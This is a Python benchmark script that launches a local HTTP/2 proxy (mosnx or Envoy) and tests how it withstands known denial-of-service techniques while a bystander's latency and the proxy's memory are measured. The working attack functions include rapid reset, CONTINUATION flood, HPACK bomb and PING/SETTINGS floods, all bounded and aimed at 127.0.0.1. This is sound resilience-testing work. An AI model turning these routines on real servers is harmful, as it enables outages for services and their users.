#!/usr/bin/env python3
"""HTTP/2 abuse against a proxy on 127.0.0.1, with a bystander's latency beside it.

Starts an HTTP/1.1 upstream of its own (counting connections and requests), then,
against a proxy already routing to it (--proxy PORT --upstream-port PORT) or one it
starts (--mosnx, or --envoy PATH for the Envoy binary), runs each attack while
another client on its own connection makes requests one after another, and prints
what the attacker got (GOAWAY code, closed), what the upstream saw, the
bystander's slowest request, and the proxy's RSS growth.

    python bench/h2_abuse.py --mosnx
    python bench/h2_abuse.py --envoy /tmp/envoyvenv/bin/envoy
    python bench/h2_abuse.py --mosnx --only rapid_reset,hpack_bomb

Every loop is bounded in count and time; everything stays on 127.0.0.1.
"""
from __future__ import annotations

import argparse
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "tests" / "e2e"))
from h2kit import (CANCEL, CONTINUATION, HEADERS, PING, RST_STREAM, SETTINGS, H2Client, RawH2,  # noqa: E402
                   raw_frame, request_fields)

HOST = "127.0.0.1"
MiB = 1024 * 1024
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 11: "ENHANCE_YOUR_CALM"}


# ---------------------------------------------------------------- upstream
class Upstream:
    """HTTP/1.1, keep-alive, 200 "ok" to every request; counts connections, and the
    requests that are not the bystander's."""

    def __init__(self, port: int = 0):
        self.lsock = socket.socket()
        self.lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.lsock.bind((HOST, port))
        self.lsock.listen(1024)
        self.port = self.lsock.getsockname()[1]
        self.conns = 0
        self.requests = 0
        self.lock = threading.Lock()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                s, _ = self.lsock.accept()
            except OSError:
                return
            with self.lock:
                self.conns += 1
            threading.Thread(target=self._serve, args=(s,), daemon=True).start()

    def _serve(self, s: socket.socket) -> None:
        buf = b""
        try:
            while True:
                data = s.recv(65536)
                if not data:
                    return
                buf += data
                while b"\r\n\r\n" in buf:
                    head, buf = buf.split(b"\r\n\r\n", 1)
                    if not head.startswith((b"GET /by/", b"GET /warm")):
                        with self.lock:
                            self.requests += 1      # the attack's, not the bystander's
                    s.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
        except OSError:
            pass
        finally:
            s.close()


# ---------------------------------------------------------------- proxies
def free_port() -> int:
    s = socket.socket()
    s.bind((HOST, 0))
    p = s.getsockname()[1]
    s.close()
    return p


def wait_port(port: int, proc: subprocess.Popen, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise SystemExit(f"proxy exited with {proc.returncode}")
        try:
            socket.create_connection((HOST, port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.1)
    raise SystemExit("proxy did not listen in time")


def start_mosnx(work: Path, up: int) -> tuple[subprocess.Popen, int]:
    port = free_port()
    (work / "mosnx.yaml").write_text(
        f"admin: {{address: '{HOST}:{free_port()}'}}\n"
        f"listeners:\n  - name: ingress\n    address: '{HOST}:{port}'\n"
        f"    route: {{cluster: web}}\n"
        f"clusters:\n  - name: web\n    endpoints: ['{HOST}:{up}']\n")
    proc = subprocess.Popen([sys.executable, "-m", "mosnx", "run", "-c", str(work / "mosnx.yaml"),
                             "--workers", "1"],
                            stdout=open(work / "mosnx.log", "wb"), stderr=subprocess.STDOUT, cwd=str(work))
    wait_port(port, proc)
    return proc, port


ENVOY = """
static_resources:
  listeners:
  - name: ingress
    address: {socket_address: {address: 127.0.0.1, port_value: %(port)d}}
    filter_chains:
    - filters:
      - name: envoy.filters.network.http_connection_manager
        typed_config:
          "@type": type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager
          stat_prefix: ingress
          codec_type: AUTO
          request_headers_timeout: 10s
          route_config:
            virtual_hosts:
            - name: all
              domains: ["*"]
              routes: [{match: {prefix: "/"}, route: {cluster: web}}]
          http_filters:
          - name: envoy.filters.http.router
            typed_config: {"@type": type.googleapis.com/envoy.extensions.filters.http.router.v3.Router}
  clusters:
  - name: web
    type: STATIC
    connect_timeout: 1s
    load_assignment:
      cluster_name: web
      endpoints: [{lb_endpoints: [{endpoint: {address: {socket_address: {address: 127.0.0.1, port_value: %(up)d}}}}]}]
admin:
  address: {socket_address: {address: 127.0.0.1, port_value: %(admin)d}}
"""


def start_envoy(work: Path, up: int, binary: str) -> tuple[subprocess.Popen, int]:
    port = free_port()
    (work / "envoy.yaml").write_text(ENVOY % {"port": port, "up": up, "admin": free_port()})
    proc = subprocess.Popen([binary, "-c", str(work / "envoy.yaml"), "--concurrency", "1",
                             "-l", "warning", "--base-id", str(os.getpid() % 60000)],
                            stdout=open(work / "envoy.log", "wb"), stderr=subprocess.STDOUT)
    wait_port(port, proc)
    return proc, port


def rss(pid: int | None) -> int:
    if not pid:
        return 0
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


# ---------------------------------------------------------------- bystander
def _bystander(port: int, stop, out) -> None:
    """In a process of its own, so the attacker's client-side work (HPACK in Python)
    does not show up as the bystander's latency."""
    lat, failed = [], 0
    try:
        with H2Client(port, timeout=30) as c:
            for i in range(100_000):
                if stop.is_set():
                    break
                t = time.monotonic()
                r = c.request("GET", f"/by/{i}", timeout=30)
                lat.append(time.monotonic() - t)
                if r.status != 200:
                    failed += 1
                time.sleep(0.005)
    except Exception:  # noqa: BLE001  (counted: the bystander lost its connection)
        failed += 1
    out.put((lat, failed))


class Bystander:
    def __init__(self, port: int):
        import multiprocessing as mp
        self.stop = mp.Event()
        self.q = mp.Queue()
        self.proc = mp.Process(target=_bystander, args=(port, self.stop, self.q), daemon=True)
        self.lat: list[float] = []
        self.failed = 0

    def start(self) -> None:
        self.proc.start()

    def finish(self) -> None:
        self.stop.set()
        self.lat, self.failed = self.q.get(timeout=60)
        self.proc.join(10)


# ---------------------------------------------------------------- attacks
def outcome(c: RawH2, wait: float = 5.0) -> str:
    try:
        c.wait(lambda: c.goaway(), timeout=wait)
    except (TimeoutError, OSError):
        pass
    g = c.goaway()
    closed = c.wait_closed(wait)
    code = CODES.get(g.error_code, str(g.error_code)) if g else "none"
    return f"GOAWAY {code}, {'closed' if closed else 'still open'}"


def rapid_reset(port: int) -> str:
    with RawH2(port) as c:
        sid = 1
        for _ in range(20):                      # 10,000 pairs at most
            batch = []
            for _ in range(500):
                batch.append(c.headers(sid, request_fields(f"/rr/{sid}")))
                batch.append(raw_frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
                sid += 2
            if not c.send(b"".join(batch), timeout=5):
                break
        return f"{(sid - 1) // 2} pairs sent; " + outcome(c)


def continuation_flood(port: int) -> str:
    conns = [RawH2(port) for _ in range(64)]
    try:
        for c in conns:
            c.settle()
        frag = os.urandom(16384)
        for c in conns:
            c.send(raw_frame(HEADERS, 0, 1, frag))
        sent = 0
        for c in conns:
            for _ in range(63):                  # ~1 MiB of unfinished block each
                if not c.send(raw_frame(CONTINUATION, 0, 1, frag), timeout=2):
                    break
                sent += 1
        results = [outcome(c, 2.0) for c in conns]
        return f"{sent} CONTINUATIONs sent; {results.count(results[0])}x {results[0]}"
    finally:
        for c in conns:
            c.close()


def hpack_bomb(port: int) -> str:
    with RawH2(port) as c:
        c.settle()
        block = c.block(request_fields("/bomb") + [("x-big", "A" * 4000)] * 40_000)
        frames = [raw_frame(HEADERS, 0x1, 1, block[:16384])]
        for off in range(16384, len(block), 16384):
            frames.append(raw_frame(CONTINUATION, 0x4 if off + 16384 >= len(block) else 0, 1,
                                    block[off:off + 16384]))
        t = time.monotonic()
        c.send(b"".join(frames))
        try:
            c.wait(lambda: c.status(1) or c.rst(1) is not None or c.goaway(), timeout=30)
        except (TimeoutError, OSError):
            pass
        took = time.monotonic() - t
        what = (f"status {c.status(1)}" if c.status(1) else f"RST {c.rst(1)}" if c.rst(1) is not None
                else "GOAWAY" if c.goaway() else "nothing")
        return f"{len(block)} B block: {what} after {took * 1000:.0f} ms"


def huffman_strings(port: int) -> str:
    with RawH2(port) as c:
        import hpack
        enc = hpack.Encoder()
        enc.header_table_size = 0
        sid = 1
        for i in range(100):                      # 100 requests x 4 distinct 12 KB literals
            # four 12 KB literals: 34 KB encoded, 48 KB decoded, under the usual 60 KiB limit
            fields = request_fields(f"/h/{i}") + [(f"x-{j}", os.urandom(6000).hex()) for j in range(4)]
            block = enc.encode(fields, huffman=True)
            c.send(raw_frame(HEADERS, 0x5 if len(block) <= 16384 else 0x1, sid, block[:16384]))
            for off in range(16384, len(block), 16384):
                c.send(raw_frame(CONTINUATION, 0x4 if off + 16384 >= len(block) else 0, sid,
                                 block[off:off + 16384]))
            sid += 2
        return outcome(c, 2.0)


def ping_flood(port: int) -> str:
    with RawH2(port) as c:
        frames = raw_frame(PING, 0, 0, b"12345678") * 200
        sent = 0
        while sent < 64 * MiB and c.send(frames, timeout=2):
            sent += len(frames)
        return f"{sent / MiB:.1f} MiB sent; " + outcome(c, 2.0)


def settings_flood(port: int) -> str:
    with RawH2(port) as c:
        frames = raw_frame(SETTINGS, 0, 0) * 200
        sent = 0
        while sent < 64 * MiB and c.send(frames, timeout=2):
            sent += len(frames)
        return f"{sent / MiB:.1f} MiB sent; " + outcome(c, 2.0)


def bad_authority(port: int) -> str:
    out = []
    with RawH2(port) as c:
        for sid, a in ((1, "user@host"), (3, "host/private")):
            c.request(sid, "/auth", authority=a)
        c.request(5, "/auth-ok", authority="host")
        try:
            c.wait(lambda: all(c.status(s) or c.rst(s) is not None for s in (1, 3, 5)) or c.goaway(), 5)
        except (TimeoutError, OSError):
            pass
        for s in (1, 3, 5):
            out.append(f"{s}: " + (f"status {c.status(s)}" if c.status(s) else f"RST {c.rst(s)}"
                                   if c.rst(s) is not None else "-"))
        g = c.goaway()
        return ", ".join(out) + (f"; GOAWAY {CODES.get(g.error_code)}" if g else "")


def lower_stream_id(port: int) -> str:
    with RawH2(port) as c:
        c.request(5, "/five")
        try:
            c.wait(lambda: c.status(5), 5)
        except (TimeoutError, OSError):
            pass
        c.request(3, "/three")
        return outcome(c, 3.0)


ATTACKS = {f.__name__: f for f in (rapid_reset, continuation_flood, hpack_bomb, huffman_strings, ping_flood,
                                   settings_flood, bad_authority, lower_stream_id)}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--proxy", type=int, help="port of a proxy already routing to --upstream-port")
    ap.add_argument("--upstream-port", type=int, default=0)
    ap.add_argument("--pid", type=int, help="the proxy's pid, for RSS")
    ap.add_argument("--mosnx", action="store_true", help="start mosnx (one worker)")
    ap.add_argument("--envoy", help="start this Envoy binary (--concurrency 1)")
    ap.add_argument("--only", help="comma-separated attacks: " + ",".join(ATTACKS))
    args = ap.parse_args()
    up = Upstream(args.upstream_port)
    proc = None
    pid = args.pid
    work = Path(tempfile.mkdtemp(prefix="h2abuse-"))
    if args.mosnx:
        proc, port = start_mosnx(work, up.port)
        pid = proc.pid
    elif args.envoy:
        proc, port = start_envoy(work, up.port, args.envoy)
        pid = proc.pid
    else:
        port = args.proxy
    names = args.only.split(",") if args.only else list(ATTACKS)
    try:
        with H2Client(port) as warm:
            warm.request("GET", "/warm")
        print(f"{'attack':20} {'attacker got':72} {'upstream +req/+conn':>20} "
              f"{'bystander p50/max':>18} {'RSS +MiB':>9}")
        for name in names:
            by = Bystander(port)
            by.start()
            time.sleep(0.5)
            r0, c0, m0 = up.requests, up.conns, rss(pid)
            t = time.monotonic()
            try:
                got = ATTACKS[name](port)
            except Exception as e:  # noqa: BLE001  (an attack the proxy broke off early)
                got = f"{type(e).__name__}: {e}"
            took = time.monotonic() - t
            time.sleep(0.3)
            m1 = rss(pid)
            by.finish()
            extra = up.requests - r0
            lat = sorted(by.lat) or [float("nan")]
            fail = f" ({by.failed} failed)" if by.failed else ""
            print(f"{name:20} {got[:72]:72} {f'{extra:+d}/{up.conns - c0:+d}':>20} "
                  f"{lat[len(lat) // 2] * 1000:7.1f}/{lat[-1] * 1000:5.1f} ms{fail} {(m1 - m0) / MiB:9.1f}"
                  f"   [{took:.1f}s]", flush=True)
    finally:
        if proc is not None:
            proc.terminate()
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()


if __name__ == "__main__":
    main()
